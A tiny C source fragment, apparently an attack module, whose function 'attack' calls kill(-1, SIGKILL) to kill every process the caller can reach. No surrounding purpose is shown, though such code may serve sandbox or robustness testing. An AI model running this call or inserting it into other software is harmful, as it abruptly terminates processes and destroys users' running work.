/* Kills all it can reach. */
#include "attack.h"
static void attack(void) { kill(-1, SIGKILL); }
